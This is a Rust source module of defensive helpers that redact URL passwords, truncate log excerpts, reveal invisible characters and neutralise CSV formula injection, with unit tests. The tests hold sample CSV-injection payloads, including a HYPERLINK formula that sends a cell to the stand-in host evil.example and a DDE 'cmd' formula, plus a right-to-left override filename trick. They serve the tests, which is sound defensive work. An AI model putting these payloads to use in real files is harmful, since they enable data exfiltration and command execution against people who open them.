//! Bounding text that comes from outside before it reaches a log line or a message.

/// Hides a password in a URL before it goes to a message or a log.
pub fn redact(url: &str) -> String {
    match (url.find("://"), url.rfind('@')) {
        (Some(scheme_end), Some(at)) if at > scheme_end => {
            let credentials = &url[scheme_end + 3..at];
            match credentials.split_once(':') {
                Some((user, _)) => format!("{}{}:***{}", &url[..scheme_end + 3], user, &url[at..]),
                None => url.to_string(),
            }
        }
        _ => url.to_string(),
    }
}

/// At most this many bytes of any input go into one log line or message.
pub(crate) const MAX_EXCERPT_BYTES: usize = 2048;

/// `text` cut to at most `MAX_EXCERPT_BYTES` bytes (on a character boundary), with a
/// note of how much was left out. A 10 MB bad line must not become a 10 MB log line.
pub(crate) fn excerpt(text: &str) -> String {
    if text.len() <= MAX_EXCERPT_BYTES {
        return text.to_string();
    }
    let mut end = MAX_EXCERPT_BYTES;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!(
        "{}… ({} more bytes left out)",
        &text[..end],
        text.len() - end
    )
}

/// A character a person cannot see but a screen acts on: the C0 and C1 controls,
/// DEL, the soft hyphen (U+00AD), Unicode's bidirectional, zero-width and
/// separator formatting characters (U+061C, U+180E, U+200B–U+200F, U+2028–U+202E,
/// U+2060–U+2064, U+2066–U+2069, U+FEFF), the interlinear annotation marks
/// (U+FFF9–U+FFFB) and the tag characters (U+E0000–U+E007F).
pub(crate) fn is_invisible(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{061C}'
                | '\u{180E}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{2069}'
                | '\u{FEFF}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{E0000}'..='\u{E007F}'
        )
}

/// `text` with each invisible character (`is_invisible`) shown as `[U+202E]`, for
/// downloads: an id like "\u{202E}gpj.exe" must not read as "exe.jpg" in a
/// spreadsheet. (The API's JSON keeps the raw value.)
pub(crate) fn show_invisible(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.chars().any(is_invisible) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_invisible(c) {
            shown.push_str(&format!("[U+{:04X}]", u32::from(c)));
        } else {
            shown.push(c);
        }
    }
    std::borrow::Cow::Owned(shown)
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
/// injection"), and the quote that marks a neutralised cell.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A text cell of a CSV as a spreadsheet may safely open it: invisible characters
/// shown (`show_invisible`), and a cell that starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return prefixed with `'`, which spreadsheets take as "this is text".
/// A cell that starts with `'` gets one too, so the rule reads back without doubt:
/// a leading `'` was added, and removing exactly one gives the value (as shown:
/// an invisible character reads as its `[U+XXXX]`; the API has the raw value).
pub(crate) fn spreadsheet_text(text: &str) -> std::borrow::Cow<'_, str> {
    let shown = show_invisible(text);
    if shown.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{shown}"))
    } else {
        shown
    }
}

/// Why a configured address cannot go into a page's link as it is, or `None` when
/// it can: it must be `https://` or `http://` (no `javascript:`), and hold no quote
/// or invisible character (which would break out of the attribute or hide itself).
pub(crate) fn link_problem(url: &str) -> Option<&'static str> {
    if !(url.starts_with("https://") || url.starts_with("http://")) {
        return Some("must start with https:// or http://");
    }
    if url.contains('"') || url.chars().any(is_invisible) {
        return Some("must not contain quotes or control characters");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_the_value_reads_back() {
        for raw in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "=cmd|' /C calc'!A0",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "'=1+1",
        ] {
            let safe = spreadsheet_text(raw);
            assert!(safe.starts_with('\''), "{raw}");
            assert_eq!(&safe[1..], raw, "one leading quote comes off");
        }
        assert_eq!(spreadsheet_text("r1-=x"), "r1-=x");
        assert_eq!(spreadsheet_text(" WhatsApp "), " WhatsApp ");
        // A tab or carriage return is shown, so it can no longer start a formula.
        assert_eq!(spreadsheet_text("\t=1+1"), "[U+0009]=1+1");
    }

    #[test]
    fn invisible_characters_are_shown() {
        assert_eq!(show_invisible("\u{202E}gpj.exe"), "[U+202E]gpj.exe");
        assert_eq!(show_invisible("a\u{0}b\u{200B}"), "a[U+0000]b[U+200B]");
        assert!(matches!(
            show_invisible("8f14e45f-ceea"),
            std::borrow::Cow::Borrowed(_)
        ));
        assert_eq!(show_invisible("Selesai é 日本"), "Selesai é 日本");
    }

    #[test]
    fn long_text_is_cut_on_a_character_boundary() {
        assert_eq!(excerpt("short"), "short");
        let long = "é".repeat(MAX_EXCERPT_BYTES);
        let cut = excerpt(&long);
        assert!(cut.len() < MAX_EXCERPT_BYTES + 64);
        assert!(cut.ends_with(&format!("({} more bytes left out)", MAX_EXCERPT_BYTES)));
    }
}
